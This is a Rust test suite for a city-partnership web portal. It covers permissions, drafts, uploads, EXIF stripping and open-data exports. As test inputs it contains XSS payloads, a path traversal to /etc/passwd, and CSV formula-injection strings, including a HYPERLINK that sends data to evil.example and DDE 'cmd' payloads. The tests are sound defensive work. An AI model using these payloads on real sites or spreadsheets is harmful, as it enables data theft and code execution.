//! Partnerships over the router: who may record what (a refused call changes no byte), drafts
//! never reach visitors (nor do their documents), the status as at a year on the map and in the
//! table, the quiet list, scanned agreements (published without an image's metadata), hostile
//! dates, and the open data read back, compared with the store and safe to open in a
//! spreadsheet.

use axum::body::Body;
use http::header::{CACHE_CONTROL, CONTENT_DISPOSITION, CONTENT_TYPE, ETAG, IF_NONE_MATCH};
use http::{Request, StatusCode};
use serde_json::Value;

use crate::common::{self, TestApp};

const SAVE: &str = "/api/save_partnership_entry";

/// A multipart form with `fields` and, if given, a file.
fn form(fields: &[(&str, &str)], file: Option<&[u8]>) -> (String, Vec<u8>) {
    let boundary = "----twincity-partnership-boundary";
    let mut body = Vec::new();
    for (name, value) in fields {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
                .as_bytes(),
        );
    }
    if let Some(bytes) = file {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"scan.pdf\"\r\nContent-Type: application/octet-stream\r\n\r\n")
                .as_bytes(),
        );
        body.extend_from_slice(bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

fn entry<'a>(
    city: &'a str,
    kind: &'a str,
    variant: &'a str,
    title: &'a str,
) -> Vec<(&'a str, &'a str)> {
    vec![
        ("city", city),
        ("kind", kind),
        ("variant", variant),
        ("progress", "planned"),
        ("date", "2024-05-01"),
        ("title_en", title),
        ("body_en", "What happened."),
        ("published", "1"),
        ("lang", "en"),
    ]
}

async fn save(
    app: &TestApp,
    fields: &[(&str, &str)],
    file: Option<&[u8]>,
    cookie: Option<&str>,
) -> (StatusCode, String) {
    let (content_type, body) = form(fields, file);
    let (parts, text) = app.post(SAVE, &content_type, body, cookie).await;
    (parts.status, text)
}

fn saved(status: StatusCode) -> bool {
    status.is_success() || status.is_redirection()
}

#[test]
fn only_editors_record_entries_and_only_admins_agreements_and_status() {
    common::block_on(async {
        let (app, editor, admin) = common::staffed().await;
        let kinds = [
            ("milestone", "", false),
            ("visit", "to_partner", false),
            ("plan", "culture", false),
            ("agreement", "memorandum", true),
            ("status", "paused", true),
        ];
        for (kind, variant, admins_only) in kinds {
            let fields = entry("ruse", kind, variant, "A title");
            let before = app.db_bytes();
            for cookie in [None, Some("twincity_session=forged")] {
                let (status, body) = save(&app, &fields, Some(b"%PDF-1.4 scan"), cookie).await;
                assert_eq!(status, StatusCode::UNAUTHORIZED, "{kind}: {body}");
            }
            if admins_only {
                let (status, body) =
                    save(&app, &fields, Some(b"%PDF-1.4 scan"), Some(&editor)).await;
                assert_eq!(status, StatusCode::FORBIDDEN, "{kind}: {body}");
            }
            assert_eq!(
                app.db_bytes(),
                before,
                "a refused {kind} changed the database"
            );
            assert!(
                !app.dir.path().join("documents").exists(),
                "no file was stored"
            );
            let who = if admins_only { &admin } else { &editor };
            let (status, body) = save(&app, &fields, None, Some(who)).await;
            assert!(saved(status), "{kind}: {status} {body}");
        }
        // An editor cannot change an admin's entry either, by naming its id.
        let (_, page) = app.get_as("/cities/ruse", &admin).await;
        let id = entry_id(&page, "agreement").expect("the new agreement");
        let version = "1";
        let mut fields = entry("ruse", "agreement", "renewal", "");
        fields.push(("id", &id));
        fields.push(("version", version));
        let before = app.db_bytes();
        let (status, _) = save(&app, &fields, None, Some(&editor)).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        // Nor by calling it a milestone, which editors may keep.
        let mut fields = entry("ruse", "milestone", "", "Sneaky");
        fields.push(("id", &id));
        fields.push(("version", version));
        let (status, _) = save(&app, &fields, None, Some(&editor)).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        let (status, _) = save(&app, &fields, None, Some(&admin)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "an entry keeps its kind");
        assert_eq!(app.db_bytes(), before);
    });
}

/// The id of the last entry of `kind` on a city page.
fn entry_id(page: &str, kind: &str) -> Option<String> {
    let marker = format!("data-kind=\"{kind}\"");
    page.match_indices("<li id=\"entry-")
        .filter_map(|(at, m)| {
            let rest = &page[at + m.len()..];
            let id: String = rest.chars().take_while(char::is_ascii_digit).collect();
            rest[..rest.find('>')?].contains(&marker).then_some(id)
        })
        .last()
}

#[test]
fn saves_are_checked_and_stale_ones_conflict() {
    common::block_on(async {
        let (app, editor, _) = common::staffed().await;
        for (field, value) in [
            ("date", "2024-02-30"),
            ("date", "yesterday"),
            ("date", "1492"),
            ("kind", "rumour"),
            ("title_en", ""),
        ] {
            let mut fields = entry("ruse", "milestone", "", "A title");
            fields.retain(|(k, _)| *k != field);
            fields.push((field, value));
            let before = app.db_bytes();
            let (status, body) = save(&app, &fields, None, Some(&editor)).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{field}={value}: {body}");
            assert_eq!(app.db_bytes(), before);
        }
        let (status, _) = save(
            &app,
            &entry("atlantis", "milestone", "", "A title"),
            None,
            Some(&editor),
        )
        .await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        let (status, _) = save(
            &app,
            &entry("ruse", "milestone", "", "First"),
            None,
            Some(&editor),
        )
        .await;
        assert!(saved(status));
        let (_, page) = app.get_as("/cities/ruse", &editor).await;
        let id = entry_id(&page, "milestone").unwrap_or_else(|| panic!("{page}"));
        let mut fields = entry("ruse", "milestone", "", "Second");
        fields.push(("id", &id));
        fields.push(("version", "1"));
        let (status, _) = save(&app, &fields, None, Some(&editor)).await;
        assert!(saved(status));
        let before = app.db_bytes();
        let (status, _) = save(&app, &fields, None, Some(&editor)).await;
        assert_eq!(status, StatusCode::CONFLICT, "the same base version again");
        assert_eq!(app.db_bytes(), before);
        let (_, page) = app.get("/cities/ruse").await;
        assert!(page.contains("Second") && !page.contains(">First<"));
    });
}

#[test]
fn visitors_never_see_drafts() {
    common::block_on(async {
        let (app, editor, _) = common::staffed().await;
        let mut fields = entry("chemnitz", "milestone", "", "Draft-only milestone 7f3a");
        fields.retain(|(k, _)| *k != "published");
        let (status, _) = save(&app, &fields, None, Some(&editor)).await;
        assert!(saved(status));
        let (_, page) = app.get_as("/cities/chemnitz", &editor).await;
        assert!(page.contains("Draft-only milestone 7f3a"), "editors see it");
        for uri in [
            "/cities/chemnitz",
            "/ru/cities/chemnitz",
            "/open-data/partnerships.json",
            "/open-data/partnerships.csv",
        ] {
            let (status, body) = app.get(uri).await;
            assert_eq!(status, StatusCode::OK);
            assert!(!body.contains("7f3a"), "{uri} shows a draft");
        }
        let (parts, body) = app
            .post_form("/api/get_partnership", "slug=chemnitz", None)
            .await;
        assert_eq!(parts.status, StatusCode::OK);
        assert!(!body.contains("7f3a"));
    });
}

#[test]
fn the_city_page_holds_the_partnership_in_reading_order() {
    common::block_on(async {
        let app = common::app();
        let (status, page) = app.get("/cities/coventry").await;
        assert_eq!(status, StatusCode::OK);
        let at = |needle: &str| page.find(needle).unwrap_or_else(|| panic!("no {needle}"));
        assert!(at("The partnership with Coventry") < at("Current agreement"));
        assert!(at("Current agreement") < at("Cooperation plan"));
        assert!(at("Cooperation plan") < at(r#"data-testid="timeline""#));
        assert!(at(r#"<h4 id="year-1944">1944</h4>"#) < at(r#"<h4 id="year-2022">2022</h4>"#));
        assert!(page.contains("Coventry suspended the link on 2022-03-22"));
        assert!(page.contains("Nothing recorded since 22 March 2022."));
        assert!(!page.contains("entry-form"), "visitors get no forms");
        let (_, ru) = app.get("/ru/cities/coventry").await;
        assert!(ru.contains("Ковентри приостановил связи 22.03.2022"));
        assert!(ru.contains("Хроника"));
    });
}

#[test]
fn an_address_cannot_put_a_form_s_message_on_a_visitor_s_page() {
    common::block_on(async {
        let app = common::app();
        let encode =
            |json: &str| base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE, json);
        let uri = format!(
            "/cities/ruse?saved=1&__path=%2Fapi%2Fsave_partnership_entry&__err={}",
            encode(r#""Forbidden""#)
        );
        let (status, body) = app.get(&uri).await;
        assert_eq!(status, StatusCode::OK);
        assert!(
            !body.contains("role=\"alert\"") && !body.contains("Saved."),
            "{body}"
        );
        let (_, plain) = app.get("/cities/ruse").await;
        assert!(!plain.contains("Saved."));
    });
}

#[test]
fn the_map_and_the_table_show_the_status_as_at_a_year() {
    common::block_on(async {
        let (app, _, admin) = common::staffed().await;
        let pin = |page: &str| -> String {
            let at = page
                .find(r#"data-testid="pin" data-slug="coventry""#)
                .expect("a Coventry pin");
            let start = page[..at].rfind("class=\"").unwrap();
            page[start..at].to_owned()
        };
        let (_, page) = app.get("/map?until=2010").await;
        assert!(pin(&page).contains(" active"), "{}", pin(&page));
        let (_, page) = app.get("/map?until=2023").await;
        assert!(pin(&page).contains(" suspended"));
        let (_, table) = app.get("/partnerships?status=suspended&until=2010").await;
        assert!(!table.contains(r#"data-slug="coventry""#));
        let (_, table) = app.get("/partnerships?status=suspended&until=2023").await;
        assert!(table.contains(r#"data-slug="coventry""#));
        // An admin records that the link ended: the map and the table follow, the past stays.
        let mut fields = entry("coventry", "status", "ended", "");
        fields.retain(|(k, _)| *k != "date");
        fields.push(("date", "2025-01-15"));
        let (status, body) = save(&app, &fields, None, Some(&admin)).await;
        assert!(saved(status), "{body}");
        let (_, page) = app.get("/map").await;
        assert!(pin(&page).contains(" ended"));
        let (_, page) = app.get("/map?until=2023").await;
        assert!(pin(&page).contains(" suspended"));
        let (status, _) = app.get("/partnerships?status=closed").await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
    });
}

#[test]
fn visitors_read_activity_dates_not_the_editors_worklist_signals() {
    common::block_on(async {
        let (app, editor, _) = common::staffed().await;
        // Every seeded partnership is quiet and has no plan: the editors' list says so.
        let (_, worklist) = app.get_as("/partnerships/quiet", &editor).await;
        assert!(worklist.contains(r#"<span class="badge">quiet</span>"#));
        assert!(worklist.contains("no plan"));
        for (path, quiet, no_plan) in [
            ("/partnerships", "quiet", "no plan"),
            ("/ru/partnerships", "затишье", "плана нет"),
        ] {
            let (status, page) = app.get(path).await;
            assert_eq!(status, StatusCode::OK);
            assert!(page.contains(r#"data-testid="partnerships-table""#));
            let badge = format!(r#"<span class="badge">{quiet}</span>"#);
            assert!(!page.contains(&badge), "{path}: a quiet badge");
            assert!(!page.contains(no_plan), "{path}: “{no_plan}”");
        }
    });
}

#[test]
fn the_quiet_list_is_for_editors() {
    common::block_on(async {
        let (app, editor, _) = common::staffed().await;
        let (status, _) = app.get("/partnerships/quiet").await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
        let (status, page) = app.get_as("/partnerships/quiet", &editor).await;
        assert_eq!(status, StatusCode::OK);
        assert!(
            page.contains(r#"data-slug="jilin""#),
            "nothing dated at all is quiet"
        );
        // A visit 31 months ago leaves it quiet; one last month wakes it.
        let date = |months: u32| {
            app.store
                .call_blocking(move |c| {
                    Ok(c.query_row(
                        &format!("SELECT date('now', '-{months} months')"),
                        [],
                        |r| r.get::<_, String>(0),
                    )?)
                })
                .unwrap()
        };
        let (old, recent) = (date(31), date(1));
        let mut visit = entry("jilin", "visit", "from_partner", "Delegation");
        visit.retain(|(k, _)| *k != "date");
        visit.push(("date", &old));
        let (status, _) = save(&app, &visit, None, Some(&editor)).await;
        assert!(saved(status));
        let (_, page) = app.get_as("/partnerships/quiet", &editor).await;
        assert!(
            page.contains(r#"data-slug="jilin""#),
            "an old visit leaves it quiet"
        );
        let mut visit = entry("jilin", "visit", "from_partner", "Delegation");
        visit.retain(|(k, _)| *k != "date");
        visit.push(("date", &recent));
        let (status, _) = save(&app, &visit, None, Some(&editor)).await;
        assert!(saved(status));
        let (_, page) = app.get_as("/partnerships/quiet", &editor).await;
        assert!(
            !page.contains(r#"data-slug="jilin""#),
            "a recent visit wakes it"
        );
        let (_, cities) = app.get("/cities?sort=activity").await;
        let jilin = cities.find(">Jilin<").unwrap();
        let coventry = cities.find(">Coventry<").unwrap();
        assert!(jilin < coventry, "the latest activity first");
    });
}

#[test]
fn scanned_agreements_are_checked_and_served_as_downloads() {
    common::block_on(async {
        let (app, _, admin) = common::staffed().await;
        let fields = entry("ruse", "agreement", "protocol", "");
        for bad in [
            &b"<html><script>alert(1)</script></html>"[..],
            b"GIF89a....",
        ] {
            let before = app.db_bytes();
            let (status, body) = save(&app, &fields, Some(bad), Some(&admin)).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
            assert!(body.contains("err_document_type"), "{body}");
            assert_eq!(app.db_bytes(), before);
        }
        let mut big = b"%PDF-1.4\n".to_vec();
        big.resize(app::partnerships::MAX_DOCUMENT + 10, b' ');
        let (status, _) = save(&app, &fields, Some(&big), Some(&admin)).await;
        assert!(
            status == StatusCode::BAD_REQUEST || status == StatusCode::PAYLOAD_TOO_LARGE,
            "{status}"
        );
        let pdf = b"%PDF-1.4\n% a scanned agreement\n%%EOF\n";
        let (status, body) = save(&app, &fields, Some(pdf), Some(&admin)).await;
        assert!(saved(status), "{body}");
        let (_, page) = app.get("/cities/ruse").await;
        let at = page.find("/documents/").expect("a link to the document");
        let href: String = page[at..].chars().take_while(|c| *c != '"').collect();
        let (parts, bytes) = app
            .send(Request::get(&href).body(Body::empty()).unwrap())
            .await;
        assert_eq!(parts.status, StatusCode::OK);
        assert_eq!(bytes, pdf);
        assert_eq!(parts.headers[CONTENT_TYPE], "application/pdf");
        assert!(parts.headers[CONTENT_DISPOSITION]
            .to_str()
            .unwrap()
            .starts_with("attachment"));
        for wrong in [
            href.replace(".pdf", ".png"),
            "/documents/..%2F..%2Fetc%2Fpasswd".into(),
            "/documents/0000.pdf".into(),
        ] {
            let (status, _) = app.get(&wrong).await;
            assert_eq!(status, StatusCode::NOT_FOUND, "{wrong}");
        }
    });
}

fn csv_rows(text: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .collect::<Result<_, _>>()
        .expect("valid CSV")
}

#[test]
fn open_data_parses_back_and_matches_the_store() {
    common::block_on(async {
        let (app, editor, _) = common::staffed().await;
        let (status, _) = save(
            &app,
            &entry(
                "chemnitz",
                "plan",
                "youth",
                "Youth exchange, \"quoted\", with commas",
            ),
            None,
            Some(&editor),
        )
        .await;
        assert!(saved(status));
        let stored = app
            .store
            .call_blocking(|c| app::store::partnerships::open_partnerships(c))
            .unwrap();
        let (parts, body) = app
            .send(
                Request::get("/open-data/partnerships.json")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await;
        assert_eq!(parts.status, StatusCode::OK);
        assert!(parts.headers[CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("application/json"));
        assert!(parts.headers["link"]
            .to_str()
            .unwrap()
            .contains("rel=\"license\""));
        let json: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(json["licence"]["name"], "CC BY 4.0");
        let records = json["partnerships"].as_array().unwrap();
        assert_eq!(records.len(), stored.len());
        for (record, p) in records.iter().zip(&stored) {
            assert_eq!(record["slug"], p.en.slug.as_str());
            assert_eq!(record["name"]["en"], p.en.name.as_str());
            assert_eq!(record["name"]["ru"], p.ru.name.as_str());
            assert_eq!(record["status"], p.en.status.as_str());
            assert_eq!(
                record["since_year"].as_i64(),
                p.en.since_year.map(i64::from)
            );
            let entries = [
                "agreements",
                "status_history",
                "milestones",
                "plan",
                "visits",
            ]
            .iter()
            .map(|k| record[k].as_array().unwrap().len())
            .sum::<usize>();
            assert_eq!(entries, p.entries.len(), "{}", p.en.slug);
        }
        let chemnitz = records.iter().find(|r| r["slug"] == "chemnitz").unwrap();
        assert_eq!(
            chemnitz["plan"][0]["description"]["en"],
            "Youth exchange, \"quoted\", with commas"
        );
        assert_eq!(chemnitz["plan"][0]["area"], "youth");

        let (status, text) = app.get("/open-data/partnerships.csv").await;
        assert_eq!(status, StatusCode::OK);
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let headers: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        assert_eq!(headers, app::partnerships::open_data::CSV_COLUMNS);
        let rows = csv_rows(&text);
        assert_eq!(rows.len(), stored.len());
        for (row, p) in rows.iter().zip(&stored) {
            assert_eq!(&row[0], p.en.slug);
            assert_eq!(&row[3], p.ru.name);
            assert_eq!(&row[8], p.en.status.as_str());
            assert_eq!(row[16].parse::<u32>().unwrap(), p.row.plan.planned);
        }

        let (_, body) = app.get("/open-data/events.json").await;
        let json: Value = serde_json::from_str(&body).unwrap();
        let events = app
            .store
            .call_blocking(|c| app::store::syndication::open_events(c))
            .unwrap();
        let records = json["events"].as_array().unwrap();
        assert!(!events.is_empty());
        assert_eq!(records.len(), events.len());
        for (record, e) in records.iter().zip(&events) {
            assert_eq!(record["slug"], e.slug.as_str());
            assert_eq!(record["start"], e.start.as_str());
            assert_eq!(record["title"]["en"], e.en.0.as_str());
            assert_eq!(record["title"]["ru"], e.ru.0.as_str());
        }
    });
}

#[test]
fn open_data_revalidates_with_an_etag() {
    common::block_on(async {
        let app = common::app();
        for uri in [
            "/open-data/partnerships.json",
            "/open-data/partnerships.csv",
            "/open-data/events.json",
        ] {
            let (parts, _) = app
                .send(Request::get(uri).body(Body::empty()).unwrap())
                .await;
            let tag = parts.headers.get(ETAG).expect("an ETag").clone();
            let (parts, body) = app
                .send(
                    Request::get(uri)
                        .header(IF_NONE_MATCH, tag)
                        .body(Body::empty())
                        .unwrap(),
                )
                .await;
            assert_eq!(parts.status, StatusCode::NOT_MODIFIED, "{uri}");
            assert!(body.is_empty());
        }
    });
}

#[test]
fn entry_texts_are_inert_on_every_page() {
    common::block_on(async {
        let (app, editor, _) = common::staffed().await;
        let hostile = r#"<script>alert(1)</script><img src=x onerror=alert(2)>"#;
        let mut fields = entry("kemi", "visit", "to_partner", hostile);
        fields.push(("people", r#""><svg onload=alert(3)>"#));
        // The editor's page holds the texts in its forms' textareas, which `</textarea>` would end.
        fields.push((
            "body_ru",
            "</textarea></p><iframe src=javascript:alert(4)> &amp;",
        ));
        let (status, body) = save(&app, &fields, None, Some(&editor)).await;
        assert!(saved(status), "{body}");
        for (uri, cookie) in [
            ("/cities/kemi", None),
            ("/ru/cities/kemi", None),
            ("/cities/kemi", Some(editor.as_str())),
        ] {
            let page = match cookie {
                Some(cookie) => app.get_as(uri, cookie).await.1,
                None => app.get(uri).await.1,
            };
            for live in ["<script>alert", "<img src=x", "<svg onload", "<iframe"] {
                assert!(!page.contains(live), "{uri} carries {live}");
            }
            assert!(
                page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
                "{uri}"
            );
            if cookie.is_some() {
                assert!(page.contains(
                    "&lt;/textarea>&lt;/p>&lt;iframe src=javascript:alert(4)> &amp;amp;"
                ));
            }
        }
    });
}

/// The link to the current agreement's document on `page`.
fn document_href(page: &str) -> Option<String> {
    let at = page.find("/documents/")?;
    Some(page[at..].chars().take_while(|c| *c != '"').collect())
}

/// GETs `uri`, with the session `cookie` if given.
async fn download(
    app: &TestApp,
    uri: &str,
    cookie: Option<&str>,
) -> (http::response::Parts, Vec<u8>) {
    let mut request = Request::get(uri);
    if let Some(cookie) = cookie {
        request = request.header(http::header::COOKIE, cookie);
    }
    app.send(request.body(Body::empty()).unwrap()).await
}

/// An EXIF block (little-endian TIFF) naming the camera and holding a GPS IFD: latitude
/// reference and the processing method, which says "GPS".
fn exif_with_camera_and_position() -> Vec<u8> {
    let entry = |tag: u16, kind: u16, count: u32, value: [u8; 4]| {
        [
            &tag.to_le_bytes()[..],
            &kind.to_le_bytes(),
            &count.to_le_bytes(),
            &value,
        ]
        .concat()
    };
    let model = b"Canon EOS 5D Mark IV\0";
    let method = b"ASCII\0\0\0GPS";
    // IFD0 at 8 with two entries, then the model's text, then the GPS IFD with two entries, then
    // the method's text.
    let model_at = 8 + 2 + 2 * 12 + 4;
    let gps_at = model_at + model.len() as u32;
    let method_at = gps_at + 2 + 2 * 12 + 4;
    [
        &b"II*\0\x08\0\0\0"[..],
        &2u16.to_le_bytes(),
        &entry(0x0110, 2, model.len() as u32, model_at.to_le_bytes()),
        &entry(0x8825, 4, 1, gps_at.to_le_bytes()),
        &0u32.to_le_bytes(),
        model,
        &2u16.to_le_bytes(),
        &entry(0x0001, 2, 2, *b"N\0\0\0"),
        &entry(0x001B, 7, method.len() as u32, method_at.to_le_bytes()),
        &0u32.to_le_bytes(),
        method,
    ]
    .concat()
}

fn holds(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn a_scanned_image_is_published_without_its_metadata() {
    common::block_on(async {
        let (app, _, admin) = common::staffed().await;
        let pixels =
            image::RgbImage::from_fn(40, 30, |x, y| image::Rgb([x as u8 * 6, y as u8 * 8, 90]));
        let mut scan = Vec::new();
        let mut encoder = image::codecs::jpeg::JpegEncoder::new_with_quality(&mut scan, 90);
        image::ImageEncoder::set_exif_metadata(&mut encoder, exif_with_camera_and_position())
            .unwrap();
        encoder.encode_image(&pixels).unwrap();
        let secrets = [&b"Exif"[..], b"GPS", b"Canon EOS"];
        for secret in secrets {
            assert!(holds(&scan, secret), "the upload carries it");
        }
        let fields = entry("ruse", "agreement", "protocol", "");
        let (status, body) = save(&app, &fields, Some(&scan), Some(&admin)).await;
        assert!(saved(status), "{body}");
        let (_, page) = app.get("/cities/ruse").await;
        let href = document_href(&page).expect("a link to the document");
        assert!(href.ends_with(".jpg"), "{href}");
        let (parts, bytes) = download(&app, &href, None).await;
        assert_eq!(parts.status, StatusCode::OK);
        assert_eq!(parts.headers[CONTENT_TYPE], "image/jpeg");
        for secret in secrets {
            assert!(
                !holds(&bytes, secret),
                "{} survived",
                String::from_utf8_lossy(secret)
            );
        }
        let image = image::load_from_memory_with_format(&bytes, image::ImageFormat::Jpeg)
            .expect("still a JPEG");
        assert_eq!((image.width(), image.height()), (40, 30));
        let stored = app
            .dir
            .path()
            .join("documents")
            .join(href.trim_start_matches("/documents/"));
        assert_eq!(std::fs::read(stored).unwrap(), bytes, "stored as served");
        // An image that does not decode is not taken, whatever its first bytes say.
        let before = app.db_bytes();
        let (status, body) = save(&app, &fields, Some(&scan[..200]), Some(&admin)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "a broken image: {body}");
        assert!(body.contains("err_document_type"), "{body}");
        assert_eq!(app.db_bytes(), before);
    });
}

#[test]
fn a_draft_s_document_is_for_editors_until_it_is_published() {
    common::block_on(async {
        let (app, editor, admin) = common::staffed().await;
        let mut fields = entry("ruse", "agreement", "memorandum", "");
        fields.retain(|(k, _)| *k != "published");
        let pdf = b"%PDF-1.4\n% a draft memorandum\n%%EOF\n";
        let (status, body) = save(&app, &fields, Some(pdf), Some(&admin)).await;
        assert!(saved(status), "{body}");
        let (_, page) = app.get_as("/cities/ruse", &admin).await;
        let href = document_href(&page).expect("editors see the draft's document");
        let (_, public) = app.get("/cities/ruse").await;
        assert!(!public.contains(&href));
        for cookie in [&editor, &admin] {
            let (parts, bytes) = download(&app, &href, Some(cookie)).await;
            assert_eq!(parts.status, StatusCode::OK);
            assert_eq!(bytes, pdf);
            let caching = parts.headers[CACHE_CONTROL].to_str().unwrap();
            assert!(
                caching.contains("no-store") && caching.contains("private"),
                "{caching}"
            );
            assert!(!caching.contains("public"), "{caching}");
        }
        for cookie in [None, Some("twincity_session=forged")] {
            let (parts, bytes) = download(&app, &href, cookie).await;
            assert_eq!(
                parts.status,
                StatusCode::NOT_FOUND,
                "not 403: it is not there"
            );
            assert!(!holds(&bytes, b"memorandum"));
            assert_eq!(parts.headers[CACHE_CONTROL], "no-store");
            let (missing, _) =
                download(&app, &href.replace(&href[11..23], "000000000000"), cookie).await;
            assert_eq!(missing.status, StatusCode::NOT_FOUND);
            assert_eq!(
                missing.headers[CACHE_CONTROL], "no-store",
                "a draft's reads as a missing one"
            );
        }
        let id = entry_id(&page, "agreement").expect("the draft");
        let mut fields = entry("ruse", "agreement", "memorandum", "");
        fields.push(("id", &id));
        fields.push(("version", "1"));
        let (status, body) = save(&app, &fields, None, Some(&admin)).await;
        assert!(saved(status), "{body}");
        let (parts, bytes) = download(&app, &href, None).await;
        assert_eq!(parts.status, StatusCode::OK, "published, it is everyone's");
        assert_eq!(bytes, pdf);
        assert!(parts.headers[CACHE_CONTROL]
            .to_str()
            .unwrap()
            .starts_with("public"));
    });
}

#[test]
fn a_date_with_a_character_of_several_bytes_is_refused_not_a_crash() {
    common::block_on(async {
        let (app, editor, _) = common::staffed().await;
        // "198é-01-1" is ten bytes with the fourth inside "é"; the rest are near misses.
        for (field, date) in [
            ("date", "198é-01-1"),
            ("date", "198é-01-01"),
            ("date", "19€-01-01"),
            ("date", "2😀-01-01"),
            ("end_date", "202é-01-1"),
        ] {
            let mut fields = entry("ruse", "visit", "to_partner", "Delegation");
            fields.retain(|(k, _)| *k != field);
            fields.push((field, date));
            let before = app.db_bytes();
            let (status, body) = save(&app, &fields, None, Some(&editor)).await;
            assert_eq!(status, StatusCode::BAD_REQUEST, "{field}={date}: {body}");
            assert!(body.contains(&format!("\"field\":\"{field}\"")), "{body}");
            assert_eq!(app.db_bytes(), before);
        }
    });
}

/// The `update_city` call that saves `city`'s facts with `name` or `country` (in `lang`) set to
/// `text`, from the version a seeded city has.
fn city_update(app: &TestApp, slug: &'static str, lang: &str, field: &str, text: &str) -> Value {
    let lang_of = if lang == "ru" {
        app::i18n::Lang::Ru
    } else {
        app::i18n::Lang::En
    };
    let (_, city) = app
        .store
        .call_blocking(move |c| app::store::cities::city_by_slug(c, lang_of, slug))
        .unwrap()
        .unwrap();
    let mut city = serde_json::to_value(city).unwrap();
    if field == "name" {
        city["name"] = text.into();
    } else {
        city["country"] = text.into();
        city["country_name"] = text.into();
    }
    serde_json::json!({"city": city, "base_version": 1, "lang": lang})
}

#[test]
fn csv_cells_that_begin_like_formulas_reach_spreadsheets_inert() {
    common::block_on(async {
        let (app, _, admin) = common::staffed().await;
        let attacks = [
            (
                "ruse",
                "en",
                "name",
                2,
                r#"=HYPERLINK("http://evil.example/?"&A1,"Ruse")"#,
            ),
            ("turin", "en", "country", 4, "+cmd|' /C calc'!A0"),
            ("chemnitz", "ru", "name", 3, "-2+3+cmd|' /C calc'!A0"),
            (
                "coventry",
                "ru",
                "country",
                5,
                "@SUM(1+1)*cmd|' /C calc'!A0",
            ),
        ];
        for (slug, lang, field, _, text) in attacks {
            let request = city_update(&app, slug, lang, field, text);
            let (parts, body) = app
                .post_json("/api/update_city", &request, Some(&admin))
                .await;
            assert_eq!(parts.status, StatusCode::OK, "{slug}: {body}");
        }
        let (status, text) = app.get("/open-data/partnerships.csv").await;
        assert_eq!(status, StatusCode::OK);
        let rows = csv_rows(&text);
        for (slug, _, _, column, attack) in attacks {
            let row = rows.iter().find(|r| &r[0] == slug).unwrap();
            assert_eq!(row[column], format!("'{attack}"), "{slug}");
            let quoted = format!("\"'{}", attack.replace('"', "\"\""));
            assert!(text.contains(&quoted), "{slug}: quoted and marked");
        }
        for line in text.lines() {
            for lead in ['=', '+', '@'] {
                assert!(
                    !line.contains(&format!(",{lead}")) && !line.contains(&format!(",\"{lead}")),
                    "{line}"
                );
            }
        }
        // Numbers are the portal's own and stay numbers, negative ones too.
        let toronto = rows.iter().find(|r| &r[0] == "toronto").unwrap();
        assert_eq!(&toronto[10], "-79.38");
        assert!(text.contains(",43.65,-79.38,"), "bare, unquoted");
        for row in &rows {
            for column in [9, 10, 13, 14, 15, 16, 17, 18, 19] {
                assert!(row[column].parse::<f64>().is_ok(), "{row:?}");
            }
        }
    });
}

/// Text where an entry's date belongs: anything short, and a real date with one character
/// replaced by any other, cut to ten bytes or not.
fn any_date() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    prop_oneof![
        ".{0,12}",
        (0usize..10, any::<char>(), any::<bool>()).prop_map(|(at, c, cut)| {
            let mut date: String = "1988-09-13"
                .chars()
                .enumerate()
                .map(|(i, d)| if i == at { c } else { d })
                .collect();
            while cut && date.len() > 10 {
                date.pop();
            }
            date
        }),
    ]
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(32))]

    /// Any text as an entry's first and last day: saved or refused with a 400, never a crash.
    #[test]
    fn any_text_as_an_entry_date_is_taken_or_refused_never_a_crash(
        date in any_date(),
        end in any_date(),
    ) {
        common::block_on(async {
            let app = common::app();
            app.add_user("olga", app::auth::Role::Editor);
            let editor = app.login("olga").await;
            let mut fields = entry("ruse", "visit", "to_partner", "Delegation");
            fields.retain(|(k, _)| *k != "date");
            fields.push(("date", &date));
            fields.push(("end_date", &end));
            let (status, body) = save(&app, &fields, None, Some(&editor)).await;
            assert!(
                saved(status) || status == StatusCode::BAD_REQUEST,
                "{date:?} {end:?} → {status} {body}"
            );
        });
    }
}
